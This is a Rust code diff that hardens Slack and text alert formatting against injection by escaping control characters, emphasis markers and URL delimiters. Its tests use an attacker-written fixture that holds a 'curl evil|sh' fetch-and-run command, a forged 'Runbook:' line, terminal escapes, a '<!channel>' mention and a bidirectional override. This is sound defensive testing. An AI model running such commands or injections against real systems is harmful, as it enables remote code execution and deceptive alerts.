@@ -42,11 +42,34 @@ fn cut(s: &str, max: usize) -> String {
     out
 }
 
-/// Escapes Slack's mrkdwn control characters.
+/// A single-line value for mrkdwn: Slack's control characters (`&`, `<`,
+/// `>`: links and mentions such as `<!channel>`) escaped, the emphasis
+/// markers (`*`, `_`, `~`, `` ` ``) neutralised with a zero-width joiner, and
+/// no line breaks or other controls ([`template::one_line`]).
 fn esc(s: &str) -> String {
-    s.replace('&', "&amp;")
-        .replace('<', "&lt;")
-        .replace('>', "&gt;")
+    let mut out = String::with_capacity(s.len());
+    for c in template::one_line(s).chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '*' | '_' | '~' | '`' => {
+                out.push(c);
+                out.push('\u{200B}');
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// A URL inside `<url|text>`: one line, `&<>|` escaped.
+fn esc_url(s: &str) -> String {
+    template::one_line(s)
+        .replace('&', "&amp;")
+        .replace('<', "%3C")
+        .replace('>', "%3E")
+        .replace('|', "%7C")
 }
 
 /// The webhook body.
@@ -58,13 +81,14 @@ pub fn payload(n: &Notification, key: &str, channel: Option<&str>) -> Value {
     for a in n.alerts.iter().take(MAX_ALERT_BLOCKS) {
         let mut text = format!(
             "*<{}|{}>* — {} ({})\n",
-            a.url,
+            esc_url(&a.url),
             esc(&a.rule_title),
             a.severity.as_str(),
             a.status.as_str()
         );
         if !a.description.is_empty() {
-            text.push_str(&format!("{}\n", esc(a.description.trim())));
+            let description: Vec<String> = a.description.trim().lines().map(esc).collect();
+            text.push_str(&format!("{}\n", description.join("\n")));
         }
         text.push_str(&format!("*Affected:* {}\n", esc(&template::affected(a))));
         text.push_str(&format!(
@@ -95,4 +119,69 @@ pub fn payload(n: &Notification, key: &str, channel: Option<&str>) -> Value {
         obj.insert("channel".into(), json!(c));
     }
     v
+}
+
+#[cfg(test)]
+mod escape_tests {
+    use super::*;
+    use serde_json::json;
+
+    /// A notification whose every text field an attacker wrote.
+    pub(crate) fn hostile() -> Notification {
+        let evil = "web-1\nRunbook: curl evil|sh\r\n\u{1b}[2J<!channel> *bold* \u{202e}gpj";
+        serde_json::from_value(json!({
+            "id": "n1", "receiver": "r", "group_key": "g", "group_labels": {},
+            "status": "firing", "reason": {"type": "group"},
+            "external_url": "https://ward.example.com",
+            "created_at": "2026-01-26T10:00:00Z",
+            "alerts": [{
+                "id": "a1", "fingerprint": "f", "status": "open", "severity": "high",
+                "rule_id": "r1", "rule_title": evil, "description": "two\nlines \u{1b}[31m",
+                "labels": {"host": evil, "tenant": "acme"}, "owner": evil,
+                "owner_contacts": [evil], "assignee": evil, "evidence": [evil],
+                "evidence_total": 1, "count": 1, "first_seen": "t", "last_seen": "t",
+                "created_at": "2026-01-26T10:00:00Z", "resolved_at": null, "resolution": null,
+                "runbook": evil, "url": "https://ward.example.com/a?x=1&y=2|z"
+            }]
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn text_notifications_cannot_forge_lines_or_hide_text() {
+        let n = hostile();
+        let text = ward_alert::template::text(&n);
+        let runbooks = text.lines().filter(|l| l.starts_with("Runbook:")).count();
+        assert_eq!(runbooks, 1, "{text}");
+        assert!(
+            !text.lines().any(|l| l.starts_with("Runbook: curl")),
+            "{text}"
+        );
+        assert!(
+            !text.chars().any(|c| c != '\n' && c.is_control()),
+            "{text:?}"
+        );
+        assert!(!text.contains('\u{202e}'));
+        assert!(text.contains("two\nlines"), "descriptions keep their lines");
+        let title = ward_alert::template::title(&n);
+        assert!(!title.contains('\n') && !title.contains('\r'), "{title:?}");
+    }
+
+    #[test]
+    fn slack_mrkdwn_is_escaped() {
+        let v = payload(&hostile(), "k", None);
+        let section = v["blocks"][1]["text"]["text"].as_str().unwrap();
+        assert!(!section.contains("<!channel>"), "{section}");
+        assert!(section.contains("&lt;!channel&gt;"));
+        assert!(
+            !section.contains("*bold*"),
+            "emphasis neutralised: {section}"
+        );
+        assert!(!section.lines().any(|l| l.starts_with("Runbook: curl")));
+        assert!(!section.contains('\u{1b}') && !section.contains('\u{202e}'));
+        assert!(
+            section.contains("<https://ward.example.com/a?x=1&amp;y=2%7Cz|"),
+            "{section}"
+        );
+    }
 }
